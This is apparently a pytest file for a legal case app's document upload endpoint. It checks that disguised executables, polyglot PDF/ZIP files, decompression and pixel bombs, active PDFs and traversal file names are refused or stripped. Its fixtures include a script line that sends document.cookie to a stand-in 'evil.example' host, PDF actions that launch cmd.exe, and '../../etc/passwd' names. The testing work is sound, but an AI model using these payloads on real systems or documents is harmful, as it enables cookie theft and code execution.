"""Hostile uploads: each is refused with the right status and code and leaves nothing behind, or is
kept only as a clean copy that carries none of what was smuggled in with it."""

from __future__ import annotations

import hashlib
import io
import re
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from werkzeug.datastructures import FileStorage
from werkzeug.test import TestResponse, encode_multipart

from tests.audit.helpers import events
from tests.evidence.helpers import (
    INFLATED_BYTES,
    document_rows,
    flate_bomb,
    huge_png,
    image,
    packed_object,
    pdf,
    pdf_with_object_stream,
    saved,
    stored_files,
    stream,
)
from tests.factories import Api, sample_pdf
from workflow.models import Document

MIB = 1024 * 1024
MAX_DOCUMENT_BYTES = MIB
MAX_IMAGE_PIXELS = 1_000_000

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(100)
WINDOWS_EXE = b"MZ\x90\x00\x03\x00" + bytes(58) + b"This program cannot be run in DOS mode.\r\n"
SCRIPT = b"<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>"


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("scan.pdf.exe", WINDOWS_EXE)
    return out.getvalue()


@pytest.fixture
def app_config() -> dict[str, Any]:
    """Limits small enough to reach with small files."""
    return {"MAX_DOCUMENT_BYTES": MAX_DOCUMENT_BYTES, "MAX_IMAGE_PIXELS": MAX_IMAGE_PIXELS}


@pytest.fixture
def case_id(api: Api) -> str:
    return str(api.create_case()["id"])


def send(api: Api, case_id: str, fields: dict[str, Any]) -> TestResponse:
    """Post a multipart form of any fields, as the lawyer. The body is encoded in memory: the
    test client spools a large one to a file it leaves open when the app refuses it unread."""
    boundary, body = encode_multipart(fields)
    return api.client.post(
        f"/api/v1/cases/{case_id}/documents",
        data=body,
        headers=api.headers("lawyer"),
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def as_file(
    content: bytes, name: str = "scan.pdf", declared: str = "application/pdf"
) -> FileStorage:
    return FileStorage(io.BytesIO(content), name, content_type=declared)


NOTHING: tuple[list[str], list[Path]] = ([], [])


def kept(app: Any) -> tuple[list[str], list[Path]]:
    """The document rows and the stored files there are now."""
    return [str(row.id) for row in document_rows(app)], stored_files(app)


def assert_refused(
    app: Any,
    response: TestResponse,
    status: int,
    code: str,
    problem: str | None = None,
    before: tuple[list[str], list[Path]] = NOTHING,
) -> None:
    """Refused as the contract says, and nothing kept: no document row, no stored file. A run
    of refusals that starts from nothing passes what each found `before` it, so that one which
    kept something fails alone."""
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/json"
    assert response.json["error"]["code"] == code
    if problem is not None:
        details = response.json["error"]["details"]
        assert (details[0]["field"], details[0]["problem"]) == ("file", problem)
    assert kept(app) == before


def download(api: Api, document_id: str) -> bytes:
    response = api.get("lawyer", f"/api/v1/documents/{document_id}")
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_data()


def traced_peak(call: Callable[[], TestResponse]) -> tuple[TestResponse, int]:
    """The response, and the most memory Python held at once while the request ran."""
    tracemalloc.start()
    try:
        return call(), tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


OTHER_TYPES = {
    "ELF executable": (ELF, "scan.pdf", "application/pdf"),
    "Windows executable": (WINDOWS_EXE, "scan.pdf", "application/pdf"),
    "ZIP": (zip_archive(), "scan.pdf", "application/pdf"),
    "HTML": (SCRIPT, "photo.png", "image/png"),
    "GIF": (b"GIF89a" + bytes(20), "photo.jpg", "image/jpeg"),
}


def test_a_file_of_another_type_is_refused_whatever_it_claims_to_be(
    app: Any, api: Api, case_id: str, subtests: pytest.Subtests
) -> None:
    assert kept(app) == NOTHING
    for variant, (content, name, declared) in OTHER_TYPES.items():
        with subtests.test(msg=variant, file=variant):
            before = kept(app)
            file = as_file(content, name, declared)
            response = send(api, case_id, {"kind": "consent", "file": file})
            assert_refused(app, response, 415, "unsupported_media_type", before=before)


def test_a_pdf_page_that_would_inflate_to_300_mb_is_kept_as_sent_and_never_inflated(
    api: Api, case_id: str
) -> None:
    bomb = pdf(content=stream(flate_bomb(), b"/Filter /FlateDecode "))
    assert len(bomb) < INFLATED_BYTES // 500

    response, peak = traced_peak(lambda: api.upload("lawyer", case_id, "lab_report", bomb))

    # Page content is never decoded on upload; what a viewer makes of it is the viewer's work.
    assert response.status_code == 201, response.json
    assert peak < 32 * MIB
    assert download(api, response.json["id"]) == bomb


def test_a_pdf_whose_objects_would_inflate_to_300_mb_is_refused_without_inflating_them(
    app: Any, api: Api, case_id: str
) -> None:
    bomb = pdf_with_object_stream(b"/Extra 5 0 R ", flate_bomb())

    response, peak = traced_peak(lambda: api.upload("lawyer", case_id, "lab_report", bomb))

    # The objects must be read to look for scripts; the sandbox stops inflating at its limit.
    assert_refused(app, response, 413, "too_large")
    assert peak < INFLATED_BYTES


@pytest.mark.parametrize("payload", [zip_archive(), SCRIPT], ids=["ZIP appended", "HTML appended"])
def test_a_photo_with_a_payload_appended_is_kept_without_it(
    app: Any, api: Api, case_id: str, payload: bytes
) -> None:
    photo = saved(image(), "JPEG")
    response = api.upload("lawyer", case_id, "identity_record", photo + payload, "photo.jpg")

    assert response.status_code == 201, response.json
    kept = download(api, response.json["id"])
    assert response.json["sha256"] == hashlib.sha256(kept).hexdigest()
    assert kept.startswith(b"\xff\xd8\xff") and kept.endswith(b"\xff\xd9")
    for marker in (b"PK\x03\x04", b"PK\x05\x06", b"<script", b"This program"):
        assert marker not in kept
    assert Image.open(io.BytesIO(kept)).size == Image.open(io.BytesIO(photo)).size
    assert len(stored_files(app)) == 1


def pdf_and_zip() -> bytes:
    """A PDF and a ZIP in one file: the ZIP's comment repeats the PDF's ending, which readers
    take to be the PDF's last revision."""
    document = sample_pdf()
    ending = document[document.rindex(b"startxref") :]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("invoice.exe", WINDOWS_EXE)
        archive.comment = b"\n" + ending
    polyglot = document + out.getvalue()
    assert zipfile.ZipFile(io.BytesIO(polyglot)).namelist() == ["invoice.exe"]
    return polyglot


DATA_AFTER_THE_END = {
    "ZIP appended": sample_pdf() + zip_archive(),
    "HTML appended": sample_pdf() + SCRIPT,
    "ZIP appended, ending as a PDF ends": pdf_and_zip(),
}


def test_a_pdf_with_data_after_its_end_is_refused(
    app: Any, api: Api, case_id: str, subtests: pytest.Subtests
) -> None:
    assert kept(app) == NOTHING
    for variant, content in DATA_AFTER_THE_END.items():
        with subtests.test(msg=variant, file=variant):
            before = kept(app)
            response = api.upload("lawyer", case_id, "consent", content)
            assert_refused(app, response, 422, "invalid_input", "damaged", before=before)


JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ACTIVE_PDFS = {
    "script run on opening": pdf(b"/OpenAction %s " % JAVASCRIPT),
    "script run on opening, by reference": pdf(
        b"/OpenAction 5 0 R ", b"<< /S /JavaScript /JS 6 0 R >>", stream(b"app.alert(1)")
    ),
    "document-level script": pdf(
        b"/Names << /JavaScript 5 0 R >> ", b"<< /Names [(init) %s] >>" % JAVASCRIPT
    ),
    "script run when the page opens": pdf(page=b"/AA << /O %s >> " % JAVASCRIPT),
    "program launched on opening": pdf(
        b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> "
    ),
    "link that launches a program": pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
        b"/A << /S /Launch /F (payload.exe) >> >>] "
    ),
    "hex-escaped /J#61vaScript": pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "),
    "hex-escaped /#4Caunch": pdf(b"/OpenAction << /S /#4Caunch /F (cmd.exe) >> "),
    "embedded file": pdf(
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        stream(WINDOWS_EXE, b"/Type /EmbeddedFile "),
    ),
    "file attached to the page": pdf(
        b"",
        stream(WINDOWS_EXE, b"/Type /EmbeddedFile "),
        page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] "
        b"/FS << /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >> >>] ",
    ),
    "script packed in an object stream": pdf_with_object_stream(
        b"/OpenAction 5 0 R ", packed_object(JAVASCRIPT)
    ),
}


def test_a_pdf_that_runs_scripts_or_programs_is_refused(
    app: Any, api: Api, case_id: str, subtests: pytest.Subtests
) -> None:
    assert kept(app) == NOTHING
    for variant, content in ACTIVE_PDFS.items():
        with subtests.test(msg=variant, file=variant):
            before = kept(app)
            response = api.upload("lawyer", case_id, "consent", content)
            assert_refused(app, response, 422, "invalid_input", "active_content", before=before)


def test_the_hand_written_pdf_is_accepted_without_active_content(api: Api, case_id: str) -> None:
    assert api.upload("lawyer", case_id, "consent", pdf()).status_code == 201


def cut_short(content: bytes) -> bytes:
    return content[: len(content) // 2]


PHOTO = Image.effect_noise((400, 300), 64).convert("RGB")
DAMAGED = {
    "JPEG cut short": cut_short(saved(PHOTO, "JPEG")),
    "PNG cut short": cut_short(saved(PHOTO, "PNG")),
    "TIFF cut short": cut_short(saved(PHOTO, "TIFF", compression="tiff_deflate")),
    "PDF cut short": cut_short(sample_pdf()),
    "PDF header alone": b"%PDF-1.7\n%%EOF\n",
    "JPEG header alone": b"\xff\xd8\xff\xe0",
}


def test_a_damaged_or_truncated_file_is_refused(
    app: Any, api: Api, case_id: str, subtests: pytest.Subtests
) -> None:
    assert kept(app) == NOTHING
    for variant, content in DAMAGED.items():
        with subtests.test(msg=variant, file=variant):
            before = kept(app)
            response = api.upload("lawyer", case_id, "identity_record", content)
            assert_refused(app, response, 422, "invalid_input", "damaged", before=before)


def test_an_empty_file_is_refused(app: Any, api: Api, case_id: str) -> None:
    response = api.upload("lawyer", case_id, "consent", b"")
    assert_refused(app, response, 422, "invalid_input", "empty")


OVERSIZED = {
    "just over the limit": MAX_DOCUMENT_BYTES + 1,
    "far over the limit": 3 * MAX_DOCUMENT_BYTES,
}


def test_a_file_over_the_size_limit_is_refused(
    app: Any, api: Api, case_id: str, subtests: pytest.Subtests
) -> None:
    assert kept(app) == NOTHING
    for variant, size in OVERSIZED.items():
        with subtests.test(msg=variant, size=variant):
            before = kept(app)
            content = sample_pdf()
            content += b"%" * (size - len(content))
            response = send(api, case_id, {"kind": "consent", "file": as_file(content)})
            assert_refused(app, response, 413, "too_large", before=before)


def tiff_with_a_large_second_page() -> bytes:
    pages = [image((100, 100), "1"), image((2000, 1000), "1")]
    return saved(pages[0], "TIFF", save_all=True, append_images=pages[1:])


def tiff_of_many_blank_pages(count: int, side: int) -> bytes:
    """Pages each within the limit, blank so the file stays tiny: together they are not."""
    pages = [image((side, side), "1") for _ in range(count)]
    return saved(
        pages[0], "TIFF", compression="tiff_deflate", save_all=True, append_images=pages[1:]
    )


TOO_MANY_PIXELS = {
    "400 megapixel PNG": huge_png(20_000, 20_000),
    "just over the limit": huge_png(1001, 1000),
    "TIFF with a large second page": tiff_with_a_large_second_page(),
    "TIFF whose pages add up to too many pixels": tiff_of_many_blank_pages(5, 900),
    "TIFF of too many pages": tiff_of_many_blank_pages(201, 10),
}


def test_an_image_with_too_many_pixels_is_refused(
    app: Any, api: Api, case_id: str, subtests: pytest.Subtests
) -> None:
    assert kept(app) == NOTHING
    for variant, content in TOO_MANY_PIXELS.items():
        with subtests.test(msg=variant, file=variant):
            before = kept(app)
            assert len(content) < MAX_DOCUMENT_BYTES
            response = api.upload("lawyer", case_id, "identity_record", content, "photo.png")
            assert_refused(app, response, 413, "too_large", before=before)


FILE_NAMES = {
    "parent folders": "../../etc/passwd",
    "Windows parent folders": "..\\..\\boot.ini",
    "Windows absolute path": "C:\\Users\\Aliya\\Desktop\\scan.pdf",
    "Arabic": "شهادة_ميلاد_عالية.pdf",
    "Kazakh Cyrillic": "Әлия_Нұрғалиева_туу_куәлігі.pdf",
    "emoji": "📄🧒🏻_свидетельство.pdf",
    "right-to-left override": "Aliya_\u202efdp.exe",
}


@pytest.mark.parametrize("name", FILE_NAMES.values(), ids=FILE_NAMES.keys())
def test_the_uploaded_file_name_is_never_kept_or_shown(
    app: Any, api: Api, case_id: str, tmp_path: Path, name: str
) -> None:
    response = api.upload("lawyer", case_id, "consent", sample_pdf(), name)

    assert response.status_code == 201, response.json
    document_id = response.json["id"]
    served = api.get("lawyer", f"/api/v1/documents/{document_id}")
    shown = served.headers["Content-Disposition"]
    assert shown == f'attachment; filename="consent-{document_id[:8]}.pdf"'
    [kept] = stored_files(app)
    assert re.fullmatch(r"[0-9a-f]{48}", kept.name) and kept.parent.name == kept.name[:2]
    columns = [column.key for column in Document.__table__.columns]
    everywhere = [
        shown,
        response.get_data(as_text=True),
        api.get("lawyer", f"/api/v1/cases/{case_id}/documents").get_data(as_text=True),
        *(str([getattr(row, column) for column in columns]) for row in document_rows(app)),
        *(str(event.detail) for event in events(app)),
        *(path.name for path in tmp_path.rglob("*")),  # nothing written outside the store
    ]
    parts = [part for part in re.split(r"[/\\:._]+", name) if len(part) > 2 and part != "pdf"]
    for part in [*parts, "\u202e"]:
        assert not [text for text in everywhere if part in text], part


MALFORMED: dict[str, tuple[Callable[[], dict[str, Any]], str]] = {
    "no file": (lambda: {"kind": "consent"}, "file"),
    "no kind": (lambda: {"file": as_file(sample_pdf())}, "kind"),
    "an unknown kind": (lambda: {"kind": "passport_scan", "file": as_file(sample_pdf())}, "kind"),
    "an extra field": (
        lambda: {"kind": "consent", "file": as_file(sample_pdf()), "child_name": "Aliya"},
        "child_name",
    ),
    "an extra file": (
        lambda: {"kind": "consent", "file": as_file(sample_pdf()), "file2": as_file(b"%PDF-")},
        "file2",
    ),
}


def test_a_malformed_form_is_refused_naming_the_field(
    app: Any, api: Api, case_id: str, subtests: pytest.Subtests
) -> None:
    assert kept(app) == NOTHING
    for variant, (fields, field) in MALFORMED.items():
        with subtests.test(msg=variant, form=variant):
            before = kept(app)
            response = send(api, case_id, fields())
            assert_refused(app, response, 422, "invalid_input", before=before)
            assert [detail["field"] for detail in response.json["error"]["details"]] == [field]
            assert "Aliya" not in response.get_data(as_text=True)


def test_a_document_sent_as_json_is_refused(app: Any, api: Api, case_id: str) -> None:
    body = {"kind": "consent", "file": sample_pdf().decode("latin-1")}
    response = api.post("lawyer", f"/api/v1/cases/{case_id}/documents", body)
    assert_refused(app, response, 415, "unsupported_media_type")
